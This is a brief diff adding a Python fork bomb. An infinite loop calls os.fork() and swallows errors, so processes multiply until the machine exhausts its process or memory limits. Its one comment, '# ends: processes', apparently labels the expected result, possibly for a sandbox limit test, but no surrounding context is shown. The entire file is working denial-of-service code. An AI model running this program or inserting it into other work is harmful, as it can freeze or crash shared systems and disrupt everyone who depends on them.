@@ -1,0 +1,8 @@
+# ends: processes
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
